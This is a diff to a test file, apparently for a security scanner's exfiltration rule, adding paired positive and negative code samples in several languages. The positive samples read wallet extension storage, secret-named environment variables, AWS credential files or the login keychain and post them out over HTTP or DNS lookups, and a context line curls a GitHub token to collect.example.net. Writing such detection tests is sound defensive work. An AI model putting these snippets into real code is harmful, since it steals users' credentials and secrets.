@@ -136,6 +136,73 @@ describeRuleCases('exfiltration', [
       'import json, urllib.request\nbody = json.dumps({"v": 1}).encode()\nurllib.request.urlopen(urllib.request.Request(URL, data=body))\n',
   },
   {
+    // TypeScript: the module reading wallet extension storage loads the one that posts (`./chain.js`).
+    id: 'SG-EXFIL-015',
+    file: 'src/detect.ts',
+    others: {
+      'src/chain.ts':
+        'export async function syncProfile(p: unknown) {\n  await fetch(API, { method: "PUT", body: JSON.stringify(p) });\n}\n',
+    },
+    positive:
+      'import { join } from "node:path";\nimport { syncProfile } from "./chain.js";\nconst dir = join(root, prof, "Local Extension Settings", id);\nawait syncProfile({ files: readdirSync(dir).map((f) => readFileSync(join(dir, f), "base64")) });\n',
+    negative:
+      'import { join } from "node:path";\nimport { syncProfile } from "./chain.js";\nconst dir = join(root, prof, "Bookmarks");\nawait syncProfile({ count: readdirSync(dir).length });\n',
+  },
+  {
+    // Ruby: the environment filtered by secret-looking names, posted through a verb sent by name.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/doctor.rb',
+    positive:
+      'env = ENV.to_h.select { |k, _| k =~ /SECRET|TOKEN|AWS/ }\nclient = Object.const_get(%w[Net HTTP].join("::"))\nclient.public_send(:post, URI(url), JSON.generate(env), "Content-Type" => "application/json")\n',
+    negative:
+      'env = ENV.fetch("RAILS_ENV", "development")\nclient = Object.const_get(%w[Net HTTP].join("::"))\nclient.public_send(:post, URI(url), JSON.generate({ env: env }), "Content-Type" => "application/json")\n',
+  },
+  {
+    // R: every environment variable, hex-encoded into the labels of `nsl` lookups.
+    id: 'SG-EXFIL-002',
+    file: 'R/profile.R',
+    positive:
+      'env <- Sys.getenv()\nhex <- paste(as.character(charToRaw(paste(names(env), env))), collapse = "")\nutils::nsl(paste(substr(hex, 1, 60), dom, sep = "."))\n',
+    negative:
+      'home <- Sys.getenv("HOME")\nutils::nsl(paste("latest", dom, sep = "."))\nhttr::POST(url, body = list(rows = nrow(df)), encode = "json")\n',
+  },
+  {
+    // Gradle init script (Kotlin): publishing and signing variables posted with java.net.http.
+    id: 'SG-EXFIL-002',
+    file: 'init.d/insights.gradle.kts',
+    positive:
+      'val ctx = System.getenv().filterKeys { Regex("(?i)(sign|token|pass)").containsMatchIn(it) }\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI(url)).POST(HttpRequest.BodyPublishers.ofString(ctx.toString())).build(), HttpResponse.BodyHandlers.discarding())\n',
+    negative:
+      'val ci = System.getenv("CI") ?: "false"\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI(url)).POST(HttpRequest.BodyPublishers.ofString(timings.toString())).build(), HttpResponse.BodyHandlers.discarding())\n',
+  },
+  {
+    // Java: the AWS credentials file written to an HttpURLConnection.
+    id: 'SG-EXFIL-002',
+    file: 'src/main/java/Sync.java',
+    positive:
+      'byte[] data = Files.readAllBytes(Paths.get(home, ".aws/credentials"));\nHttpURLConnection c = (HttpURLConnection) new URL(u).openConnection();\nc.setRequestMethod("POST");\nc.setDoOutput(true);\nc.getOutputStream().write(data);\n',
+    negative:
+      'byte[] data = Files.readAllBytes(Paths.get(home, "report.csv"));\nHttpURLConnection c = (HttpURLConnection) new URL(u).openConnection();\nc.setRequestMethod("POST");\nc.setDoOutput(true);\nc.getOutputStream().write(data);\n',
+  },
+  {
+    // Swift: the login keychain exported, then a URLRequest posted.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/doctor.swift',
+    positive:
+      'sh(["security", "export", "-k", home.appendingPathComponent("Library/Keychains/login.keychain-db").path, "-o", tmp.path])\nvar req = URLRequest(url: URL(string: endpoint)!)\nreq.httpMethod = "POST"\nreq.httpBody = try? Data(contentsOf: tmp)\nURLSession.shared.dataTask(with: req).resume()\n',
+    negative:
+      'sh(["security", "find-identity", "-v", "-p", "codesigning"])\nvar req = URLRequest(url: URL(string: endpoint)!)\nreq.httpMethod = "POST"\nreq.httpBody = try? JSONSerialization.data(withJSONObject: ["count": n])\nURLSession.shared.dataTask(with: req).resume()\n',
+  },
+  {
+    // VBA module: Windows credential paths under %USERPROFILE%, posted with MSXML2.
+    id: 'SG-EXFIL-002',
+    file: 'vba/Sync.bas',
+    positive:
+      'home = Environ("USERPROFILE")\nbody = ReadText(home & "\\.aws\\credentials")\nSet http = CreateObject("MSXML2.ServerXMLHTTP.6.0")\nhttp.Open "POST", SYNC_URL, True\nhttp.send body\n',
+    negative:
+      'home = Environ("USERPROFILE")\nbody = ReadText(home & "\\Documents\\budget.csv")\nSet http = CreateObject("MSXML2.ServerXMLHTTP.6.0")\nhttp.Open "POST", SYNC_URL, True\nhttp.send body\n',
+  },
+  {
     id: 'SG-EXFIL-001',
     positive: sh('body="token=${GITHUB_TOKEN}"\ncurl -fsSL -X POST https://collect.example.net/c -d "$body"'),
     negative: sh(
